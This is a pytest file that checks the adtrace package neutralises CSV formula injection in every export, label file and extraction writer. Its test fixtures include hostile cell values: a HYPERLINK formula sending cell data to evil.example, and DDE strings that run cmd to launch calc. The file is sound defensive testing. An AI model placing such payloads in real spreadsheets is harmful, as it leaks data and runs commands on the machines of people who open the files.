"""CSV formula injection (issue 20): every cell of every CSV adtrace writes is guarded, in one place."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from adtrace.cases import decisions, exports
from adtrace.cli.io import CsvWriter
from adtrace.documents.spreadsheet import read_cell, safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\n=1+1",
           "  =1+1", "\uff1d1+1"]
SRC = Path(__file__).resolve().parents[2] / "src" / "adtrace"


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_text(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert read_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["plain text", "+12134730199", "-5.5", "a=b", "", "'quoted", "ad-1"])
def test_ordinary_cells_are_untouched(value: str) -> None:
    assert safe_cell(value) == value and read_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in (-3, 2.5, None, True)] == [-3, 2.5, None, True]


def _no_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            lead = cell.lstrip(" ")
            assert not lead or lead[0] not in "=+-@\t\r\n" or re.fullmatch(r"[+-]?[0-9.]+", lead), (cell, row)


def test_case_csv_guards_every_column() -> None:
    doc: dict[str, Any] = {"id": HYPERLINK, "posted_at": "@now", "source": DDE, "city": "\t" + DDE,
                           "location": "\r" + HYPERLINK, "cluster": "+c", "risk": {"score": 80, "level": "high"},
                           "indicators": [{"id": "=x"}],
                           "identifiers": {"phones": ["=p"], "emails": ["@e"], "handles": ["+h"], "names": ["-n"]},
                           "title": HYPERLINK}
    out = exports.to_csv({"documents": [doc]})
    _no_formula(out)
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["doc_id"] == "'" + HYPERLINK and row["source"] == "'" + DDE and row["title"] == "'" + HYPERLINK
    assert row["city"] == "'\t" + DDE and row["location"] == "'\r" + HYPERLINK
    assert row["risk_score"] == "80"


def test_labels_csv_guards_ids_and_text_and_trains_back(tmp_path: Path) -> None:
    import sqlalchemy as sa

    from adtrace.documents import Document
    from adtrace.scoring.labels import read_labels

    db = tmp_path / "l.db"
    con = sqlite3.connect(db)
    con.executescript("CREATE TABLE review_decisions (id INTEGER PRIMARY KEY, doc_id TEXT, decision TEXT); "
                      "CREATE TABLE documents (id TEXT, text TEXT);")
    con.execute("INSERT INTO documents VALUES (?, ?)", (DDE, "-new in town"))
    con.execute("INSERT INTO review_decisions (doc_id, decision) VALUES (?, 'confirm')", (DDE,))
    con.commit()
    con.close()
    with sa.create_engine(f"sqlite:///{db}").connect() as conn:
        out = decisions.export_labels(conn)
        ids_only = decisions.export_labels(conn, with_text=False)
    _no_formula(out)
    (tmp_path / "labels.csv").write_text(ids_only)
    pairs = read_labels(str(tmp_path / "labels.csv"), [Document(id=DDE, text="-new in town")])
    assert [(d.id, label) for d, label in pairs] == [(DDE, 1)]


def test_extract_csv_guards_the_id_and_values() -> None:
    buf = io.BytesIO()
    w = CsvWriter(buf)
    w.write({"id": HYPERLINK, "phones": [{"value": "=1"}], "names": [{"value": "@me"}], "risk": {"score": 1}})
    w.close()
    _no_formula(buf.getvalue().decode())


def test_no_csv_writer_bypasses_the_guard() -> None:
    """Every CSV writer in the package goes through adtrace.documents.spreadsheet."""
    offenders = [str(p.relative_to(SRC)) for p in SRC.rglob("*.py") if p.name != "spreadsheet.py"
                 and re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
    assert offenders == []
